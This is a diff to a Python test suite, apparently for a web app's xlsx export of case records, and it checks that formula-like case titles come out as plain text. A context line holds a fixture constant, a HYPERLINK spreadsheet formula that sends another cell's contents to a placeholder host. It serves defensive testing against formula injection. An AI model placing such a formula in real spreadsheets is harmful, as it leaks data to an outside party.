@@ -22,7 +22,7 @@ LEAK = '=HYPERLINK("http://x.invalid/?q="&B5,"点我")'
 def _cells(response: Any) -> list[Any]:
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    book = load_workbook(io.BytesIO(response.content))
+    book = load_workbook(io.BytesIO(response.getvalue()))
     return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
 
 
@@ -57,7 +57,7 @@ def test_a_case_title_like_a_formula_is_exported_as_text(
 ) -> None:
     case = east_case(cast, world, title=title)
     case.refresh_from_db()  # (the service strips the leading tab or CR)
-    response = client_for(cast.dispatcher).get("/cases/", {"format": "xlsx"})
+    response = client_for(cast.dispatcher).get("/ledgers/cases/")
     _as_text(_cells(response), case.title)
 
 
